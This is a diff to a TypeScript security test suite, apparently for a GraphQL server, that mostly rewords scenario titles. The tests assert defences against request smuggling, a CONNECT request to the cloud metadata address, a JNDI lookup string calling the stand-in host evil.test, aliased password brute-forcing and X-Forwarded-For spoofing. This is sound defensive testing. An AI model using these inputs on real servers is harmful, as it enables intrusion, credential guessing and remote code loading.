@@ -17,16 +17,16 @@ const hashOf = (query: string): string => createHash('sha256').update(query).dig
 const byHash = (query: string): string => persisted({ version: 1, sha256Hash: hashOf(query) });
 const withHash = (query: string): string => persisted({ version: 1, sha256Hash: hashOf(query) }, query);
 
-/** A document that a limit refuses is not kept either. */
+/** A document over a limit must not be stored as a persisted query. */
 export const neverKept = (title: string, query: string, code: string): Attack =>
-  scenario(50, `${title} is never known as a persisted query`, async (rig) => {
+  scenario(50, `${title} is not stored as a persisted query`, async (rig) => {
     const refused = await answerTo(rig, withHash(query));
     expect([refused.status, codesIn(refused)]).toEqual([400, [code]]);
     expect(codesIn(await answerTo(rig, byHash(query)))).toEqual(['PERSISTED_QUERY_NOT_FOUND']);
   });
 
 const connections: readonly Attack[] = [
-  scenario(14, 'a client that goes on sending a large body still reads its 413', async ({ origin }) => {
+  scenario(14, 'a client that keeps sending a large body still receives its 413', async ({ origin }) => {
     const answer = await fetch(`${origin}/graphql`, {
       method: 'POST',
       headers: { 'content-type': 'application/json' },
@@ -41,7 +41,7 @@ const connections: readonly Attack[] = [
     expect(answer.headers.get('allow')).toBe('GET, POST');
     expect(await answer.text()).toBe('');
   }),
-  scenario(23, 'Connection takes no other header away, and hop-by-hop headers reach nobody', async (rig) => {
+  scenario(23, 'Connection removes no end-to-end header, and hop-by-hop headers are dropped', async (rig) => {
     const mine = { 'x-tenant': 't', te: 'trailers', connection: 'keep-alive, x-tenant' };
     expect((await answerTo(rig, asked('{ plain }', mine))).body).toEqual({ data: { plain: 't' } });
     const [context] = rig.contexts;
@@ -59,7 +59,7 @@ const connections: readonly Attack[] = [
   }),
   scenario(
     26,
-    'a client that half-closes after pipelining has left: its request is aborted, the next ones are not started',
+    'half-closing after pipelining aborts the request in flight, and the next ones do not start',
     async (rig) => {
       const connection = await rawConnection(rig.port);
       connection.send(asked('{ slow }').repeat(20));
@@ -72,7 +72,7 @@ const connections: readonly Attack[] = [
       expect(rig.contexts).toHaveLength(2);
     },
   ),
-  scenario('next', 'a malformed request behind one that still runs does not take its answer away', async (rig) => {
+  scenario('next', 'a malformed pipelined request does not affect the answer before it', async (rig) => {
     const connection = await rawConnection(rig.port);
     connection.send(asked('{ slow }'));
     await vi.waitUntil(() => rig.held.length > 0, 5_000);
@@ -83,7 +83,7 @@ const connections: readonly Attack[] = [
     await connection.closed();
     expect(parseAnswers(connection.received())).toMatchObject([{ status: 200, headers: { connection: 'close' } }]);
   }),
-  scenario('next', 'a request behind a refused one whose body was not read is not taken for a request', async (rig) => {
+  scenario('next', 'the unread body of a rejected request is not parsed as a request', async (rig) => {
     const connection = await rawConnection(rig.port);
     const smuggled = asked('{ plain }');
     connection.send(head(['content-encoding: gzip', lengthOf(smuggled)], smuggled));
@@ -91,18 +91,14 @@ const connections: readonly Attack[] = [
     expect(parseAnswers(connection.received()).map(({ status }) => status)).toEqual([415]);
     expect(rig.told).toEqual([]);
   }),
-  scenario(
-    'next',
-    'what follows a body that is longer than it said is never executed, nor answered as if it were',
-    async (rig) => {
-      const connection = await rawConnection(rig.port);
-      connection.send(`${post(HELLO)}{"query":"{ plain }"}\r\n\r\n`);
-      await connection.closed();
-      expect(parseAnswers(connection.received()).filter(({ status }) => status !== 200)).toEqual([]);
-      expect(rig.told).toEqual([]);
-    },
-  ),
-  scenario('next', 'who waits for 100 Continue gets it, and the answer behind it', async ({ port }) => {
+  scenario('next', 'bytes beyond Content-Length are not executed or answered as a request', async (rig) => {
+    const connection = await rawConnection(rig.port);
+    connection.send(`${post(HELLO)}{"query":"{ plain }"}\r\n\r\n`);
+    await connection.closed();
+    expect(parseAnswers(connection.received()).filter(({ status }) => status !== 200)).toEqual([]);
+    expect(rig.told).toEqual([]);
+  }),
+  scenario('next', 'a client with Expect: 100-continue receives 100, then the answer', async ({ port }) => {
     const connection = await rawConnection(port);
     connection.send(head(['expect: 100-continue', lengthOf(HELLO)]));
     expect((await connection.answers(1))[0]?.status).toBe(100);
@@ -110,13 +106,13 @@ const connections: readonly Attack[] = [
     expect((await connection.answers(2))[1]?.status).toBe(200);
     connection.socket.destroy();
   }),
-  scenario('next', 'who waits for 100 Continue with a body too large gets 413 without sending it', async ({ port }) => {
+  scenario('next', 'Expect: 100-continue with a too large body receives 413 immediately', async ({ port }) => {
     const connection = await rawConnection(port);
     connection.send(head(['expect: 100-continue', `content-length: ${MAX_BODY_BYTES + 1}`]));
     await connection.closed();
     expect(parseAnswers(connection.received()).at(-1)?.status).toBe(413);
   }),
-  scenario('next', 'CONNECT opens nothing', async (rig) => {
+  scenario('next', 'CONNECT opens no tunnel', async (rig) => {
     const connection = await rawConnection(rig.port);
     connection.send('CONNECT 169.254.169.254:80 HTTP/1.1\r\nhost: 169.254.169.254:80\r\n\r\n');
     await connection.closed();
@@ -130,7 +126,7 @@ const FIVE_WAYS = '{ login(password: "x") }';
 const limits: readonly Attack[] = [
   scenario(
     49,
-    'an unknown hash is PERSISTED_QUERY_NOT_FOUND with status 200, and known once the query was sent',
+    'an unknown hash is PERSISTED_QUERY_NOT_FOUND with status 200, and known after the query was sent',
     async (rig) => {
       const query = '{ hello again: hello }';
       const unknown = await answerTo(rig, byHash(query));
@@ -142,7 +138,7 @@ const limits: readonly Attack[] = [
       expect((await answerTo(rig, byHash(query))).body).toEqual({ data: { hello: 'world', again: 'world' } });
     },
   ),
-  scenario(49, 'a wrong hash, version or kind of hash is refused', async (rig) => {
+  scenario(49, 'a wrong hash, version or type of hash is rejected', async (rig) => {
     const sha256Hash = hashOf('{ hello }');
     for (const [wrong, query] of [
       [{ version: 1, sha256Hash: 'a'.repeat(64) }, '{ hello }'],
@@ -160,7 +156,7 @@ const limits: readonly Attack[] = [
         'PERSISTED_QUERY_NOT_FOUND',
       ]);
   }),
-  scenario(50, 'a flood of persisted queries is bounded, and puts out none that is in use', async (rig) => {
+  scenario(50, 'a flood of persisted queries is bounded, and evicts none in use', async (rig) => {
     const hot = '{ hot: hello }';
     const cold = (n: number): string => `{ cold: hello } #${n} ${padded(MAX_BODY_BYTES - 2_000).replaceAll('"', '')}`;
     expect((await answerTo(rig, withHash(hot))).status).toBe(200);
@@ -171,7 +167,7 @@ const limits: readonly Attack[] = [
     expect((await answerTo(rig, byHash(hot))).body).toEqual({ data: { hot: 'world' } });
     expect(codesIn(await answerTo(rig, byHash(cold(0))))).toEqual(['PERSISTED_QUERY_NOT_FOUND']);
   }),
-  scenario(51, 'of 20 passwords in one request 5 are tried, and 100 are refused as a whole', async (rig) => {
+  scenario(51, '20 password attempts in one request execute 5 times, and 100 are rejected as a whole', async (rig) => {
     const guesses = (count: number): string =>
       asked(`{ ${Array.from({ length: count }, (_, n) => `a${n}: login(password: "${n}")`).join(' ')} }`, {
         authorization: 'Bearer brute',
@@ -181,7 +177,7 @@ const limits: readonly Attack[] = [
     expect(codesIn(answer)).toEqual(Array.from({ length: 15 }, () => 'RATE_LIMITED'));
     expect(codesIn(await answerTo(rig, guesses(100)))).toEqual(['ROOT_FIELD_LIMIT']);
   }),
-  scenario(52, 'one limit for a question by POST, by GET, by its hash, and under other names', async (rig) => {
+  scenario(52, 'one limit covers a field by POST, GET, persisted query and alias', async (rig) => {
     const mine = { authorization: 'Bearer ways', ...PREFLIGHTED };
     const persistedQuery = { version: 1, sha256Hash: hashOf(FIVE_WAYS) };
     const ways = [
@@ -196,7 +192,7 @@ const limits: readonly Attack[] = [
     const batch = post(`[${HELLO},${HELLO}]`, mine);
     expect(codesIn(await answerTo(rig, batch))).toEqual(['BAD_REQUEST']);
   }),
-  scenario(85, 'another X-Forwarded-For each time is still the same client', async (rig) => {
+  scenario(85, 'changing X-Forwarded-For does not change the client', async (rig) => {
     const from = (n: number): string =>
       asked('{ door }', {
         'x-forwarded-for': `203.0.113.${n}`,
@@ -210,13 +206,13 @@ const limits: readonly Attack[] = [
 ];
 
 const sharing: readonly Attack[] = [
-  scenario(72, 'a redirect is not followed, and carries no token away', async (rig) => {
+  scenario(72, 'a redirect is not followed, so no token leaks', async (rig) => {
     const answer = await answerTo(rig, asked('{ away }', { authorization: 'Bearer alice' }));
     expect([answer.body.data, codesIn(answer)]).toEqual([{ away: null }, ['UPSTREAM_BAD_RESPONSE']]);
     expect(rig.told.map(({ url }) => url)).toEqual(['/away']);
     expect(JSON.stringify(answer)).not.toMatch(/169\.254|meta-data/);
   }),
-  scenario(79, 'questions in flight that differ in a forwarded header alone share nothing', async (rig) => {
+  scenario(79, 'concurrent queries that differ in one forwarded header share no call', async (rig) => {
     const tenants = Array.from({ length: 40 }, (_, n) => `t${n % 4}`);
     const answers = await Promise.all(
       tenants.map((tenant) =>
@@ -238,14 +234,14 @@ const sharing: readonly Attack[] = [
       ['\u0024{jndi:ldap://evil.test/a}', false],
     ] as const
   ).map(([id, taken]) =>
-    scenario('next', `the request id ${JSON.stringify(id)} is ${taken ? 'taken' : 'replaced'}`, async (rig) => {
+    scenario('next', `the request id ${JSON.stringify(id)} is ${taken ? 'accepted' : 'replaced'}`, async (rig) => {
       const { headers } = await answerTo(rig, asked('{ plain }', { 'x-request-id': id }));
       expect(headers['x-request-id'] === id).toBe(taken);
       expect(headers['x-request-id']).toMatch(/^[\w.:-]{1,128}$/);
       expect(rig.told[0]?.headers['x-request-id']).toBe(headers['x-request-id']);
     }),
   ),
-  scenario('next', 'TRACE shows nobody what they sent', async (rig) => {
+  scenario('next', 'TRACE does not echo the request', async (rig) => {
     const answer = await answerTo(
       rig,
       bodiless('TRACE', '/graphql', { cookie: 'session=1', authorization: 'Bearer s' }),
@@ -254,5 +250,5 @@ const sharing: readonly Attack[] = [
   }),
 ];
 
-/** What takes more than one request. */
+/** Attacks with more than one request. */
 export const scenarios: readonly Attack[] = [...connections, ...limits, ...sharing];
